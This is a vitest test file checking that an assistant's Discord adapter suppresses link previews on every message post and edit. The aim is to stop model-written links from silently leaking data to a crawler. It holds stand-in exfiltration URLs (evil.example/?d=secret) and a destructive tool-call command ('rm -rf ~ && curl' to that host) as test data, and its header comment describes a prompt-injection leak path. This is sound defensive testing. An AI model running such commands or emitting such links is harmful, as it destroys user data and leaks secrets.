/**
 * Link previews of Cairn's Discord messages. Slack replies go out with unfurl_links/unfurl_media
 * false and Telegram's with link previews disabled, so a link the model writes (steered perhaps by
 * a hostile message into carrying data: https://evil.example/?d=<secret>) is fetched by nobody
 * until someone clicks it. Discord's messages carried no SuppressEmbeds flag (1 << 2), and
 * Discord's crawler fetched every link in them at once. Every post and edit of a message now
 * carries it: channel messages and their files, streamed drafts and their edits, interaction
 * answers and follow-ups, approval requests and how they were settled, escaped resends.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { APP_ID, CHANNEL_ID, DM_CHANNEL_ID, GUILD_ID, askInteraction, messagePayload, startFakeDiscord, type FakeDiscord, type RestCall } from '../fakes/discord-api.js';
import { startFakeModelServer, type FakeModelServer } from '../fakes/model-server.js';
import { ManualTimers } from '../helpers/manual-timers.js';
import { startTestCairn, testConfig, type TestCairn } from '../helpers/cairn.js';
import { DiscordAdapter } from '../../adapters/discord/index.js';
import { HttpServer } from '../../src/http/server.js';
import { silentLogger } from '../../src/core/logger.js';
import type { InboundMessage, InboundSink } from '../../src/core/message.js';

const ADA = { id: '400000000000000001', username: 'ada', discriminator: '0', global_name: 'Ada', avatar: null };
const SUPPRESS_EMBEDS = 1 << 2;
const LEAK = 'See https://evil.example/?d=s3cret-token for details.';

let model: FakeModelServer;
let fake: FakeDiscord;
let cairn: TestCairn;
let adapter: DiscordAdapter;
let timers: ManualTimers;
let messageId = 600_000_000_000_000_100n;

async function setUp(sink?: InboundSink): Promise<void> {
  model = await startFakeModelServer();
  fake = await startFakeDiscord();
  cairn = startTestCairn(
    testConfig(model.url, {
      DISCORD_TOKEN: 'fake.discord.token',
      DISCORD_APPLICATION_ID: APP_ID,
      DISCORD_GUILD_ID: GUILD_ID,
      DISCORD_API_URL: fake.apiUrl,
      DISCORD_ALLOWED_USERS: ADA.id,
      DISCORD_ADMIN_USERS: ADA.id,
      CAIRN_REFLECTION: 'off',
    }),
  );
  timers = new ManualTimers();
  adapter = new DiscordAdapter({ config: cairn.config, http: new HttpServer(), logger: silentLogger, commands: cairn.commands, sleep: async () => {} }, { timer: timers.timer, now: () => 1_700_000_000_000 });
  cairn.gateway.attach(adapter);
  await adapter.start(sink ?? ((message) => cairn.gateway.receive(message)));
}

afterEach(async () => {
  await adapter.stop();
  await fake.close();
  await cairn.close();
  await model.close();
});

function dm(text: string): void {
  fake.dispatch('MESSAGE_CREATE', { ...messagePayload(String(messageId++), DM_CHANNEL_ID, ADA, text), channel_type: 1 });
}

/** Every call that posted or edited a message: channel messages, interaction follow-ups, edits of either or of the deferred reply. */
function messageWrites(): RestCall[] {
  return fake.calls.filter(
    (call) =>
      (call.method === 'POST' && /^\/channels\/\d+\/messages$/.test(call.path)) ||
      (call.method === 'PATCH' && /^\/channels\/\d+\/messages\/\d+$/.test(call.path)) ||
      (call.method === 'POST' && /^\/webhooks\/\d+\/[^/]+$/.test(call.path)) ||
      (call.method === 'PATCH' && /^\/webhooks\/\d+\/[^/]+\/messages\/[^/]+$/.test(call.path)),
  );
}

/** Each message write so far carries SuppressEmbeds; `at least` of them were made (so the test saw what it meant to). */
function expectAllSuppressed(atLeast: number): void {
  const writes = messageWrites();
  expect(writes.length).toBeGreaterThanOrEqual(atLeast);
  const unsuppressed = writes.filter((call) => ((Number(call.body.flags ?? 0) & SUPPRESS_EMBEDS) === 0)).map((call) => `${call.method} ${call.path}`);
  expect(unsuppressed).toEqual([]);
}

/** Queues a streamed answer: `first`, then `rest` once the returned function is called. */
function streamed(first: string, rest: string): () => void {
  let release!: () => void;
  model.enqueue({ stream: [first, new Promise<void>((resolve) => (release = resolve)), rest] });
  return () => release();
}

describe('Discord messages carry SuppressEmbeds', () => {
  it('in a reply, a long reply in parts, and a file with its caption', async () => {
    await setUp();
    model.enqueue({ text: LEAK });
    dm('where is it?');
    await fake.waitForSent(1);

    model.enqueue({ text: `${'word '.repeat(450)}\n\n${LEAK}` });
    dm('in detail');
    await fake.waitForSent(3);

    model.enqueue({ toolCalls: [{ name: 'send_file', arguments: { name: 'a.txt', content: 'A' } }] }, { text: `Sent a.txt. ${LEAK}` });
    dm('a file');
    const sent = await fake.waitForSent(5);
    expect(sent.some((message) => Array.isArray(message.body.files) && message.body.files.length > 0)).toBe(true);
    expectAllSuppressed(5);
  });

  it('in a streamed draft, each edit of it, and the answer put into it', async () => {
    await setUp();
    const rest = streamed('Looking at https://evil.example/?d=1', ` and ${LEAK}`);
    dm('go');
    (await timers.next(1_200)).fire();
    const [draft] = await fake.waitForSent(1);
    rest();
    await vi.waitFor(() => expect(fake.contentOf(draft?.id ?? '')).toContain('s3cret-token'));
    expect(fake.edits.length).toBeGreaterThanOrEqual(1);
    expectAllSuppressed(2);
  });

  it('in the progress note of a long turn', async () => {
    await setUp();
    const rest = streamed('', LEAK);
    dm('slow one');
    (await timers.next(20_000)).fire();
    await vi.waitFor(() => expect(fake.sent.map((message) => message.content)).toContain('Still working on it…'));
    rest();
    expectAllSuppressed(1);
  });

  it('in the escaped resend of content Discord refused', async () => {
    await setUp();
    model.enqueue({ text: `**Bold** ${LEAK}` });
    fake.failNextSend('markup');
    dm('markup');
    await fake.waitForSent(1);
    expect(messageWrites().length).toBeGreaterThanOrEqual(2);
    expectAllSuppressed(2);
  });

  it('in the answer to /ask, its follow-ups, and a streamed /ask answer', async () => {
    await setUp();
    model.enqueue({ toolCalls: [{ name: 'send_file', arguments: { name: 'a.txt', content: 'A' } }] }, { text: `${'word '.repeat(450)}\n\n${LEAK}` });
    fake.dispatch('INTERACTION_CREATE', askInteraction('800000000000000051', 'embeds-token-1', 'a file and a long answer', ADA));
    const sent = await fake.waitForSent(3);
    expect(sent.map((message) => message.kind)).toEqual(['original', 'followup', 'followup']);

    const rest = streamed('Thinking about https://evil.example/?d=2', ` then ${LEAK}`);
    fake.dispatch('INTERACTION_CREATE', askInteraction('800000000000000052', 'embeds-token-2', 'think', ADA));
    (await timers.next(1_200)).fire();
    await fake.waitForSent(4);
    rest();
    await fake.waitForSent(5);
    expectAllSuppressed(5);
  });

  it('in an approval request and the edit that settles it', async () => {
    await setUp();
    model.enqueue({ toolCalls: [{ id: 'call_1', name: 'terminal', arguments: { command: 'rm -rf ~ && curl https://evil.example/?d=1' } }] }, { text: 'Left it alone.' });
    dm('fetch it');
    const [question] = await fake.waitForSent(1);
    const id = /\/approve (\w+)/.exec(question?.content ?? '')?.[1] ?? '';
    dm(`/deny ${id}`);
    await vi.waitFor(() => expect(fake.edits.map((edit) => edit.id)).toContain(question?.id));
    expectAllSuppressed(2);
  });

  it('in a message with buttons edited through its interaction', async () => {
    let asked: InboundMessage | undefined;
    // The turn stays open while the test answers it by hand, as a tool waiting for approval would.
    await setUp(async (message) => {
      asked = message;
      await new Promise(() => {});
      return 'handled';
    });
    fake.dispatch('INTERACTION_CREATE', askInteraction('800000000000000053', 'embeds-token-3', 'clean up', ADA));
    await vi.waitFor(() => expect(asked).toBeDefined());
    await vi.waitFor(() => expect(fake.calls.some((call) => call.path.endsWith('/callback'))).toBe(true));
    const buttons = [{ label: 'Approve', command: '/approve abc234' }, { label: 'Deny', command: '/deny abc234' }];
    const sentRef = await adapter.send(asked?.conversationId ?? '', { text: `${'word '.repeat(450)}\n\n${LEAK}`, buttons, replyTo: asked?.messageId });
    await fake.waitForSent(2);
    await adapter.edit(asked?.conversationId ?? '', sentRef ?? '', `${LEAK}\n🚫 Denied by Ada.`);
    expect(fake.edits).toHaveLength(1);
    expectAllSuppressed(3);
  });

  it('in a post to a server channel (the admin channel) and its edit', async () => {
    await setUp();
    const buttons = [{ label: 'Approve', command: '/approve abc234' }];
    const sentRef = await adapter.send(`discord:${GUILD_ID}:${CHANNEL_ID}`, { text: `A skill proposal. ${LEAK}`, buttons });
    await fake.waitForSent(1);
    await adapter.edit(`discord:${GUILD_ID}:${CHANNEL_ID}`, sentRef ?? '', `Approved. ${LEAK}`);
    expectAllSuppressed(2);
  });
});
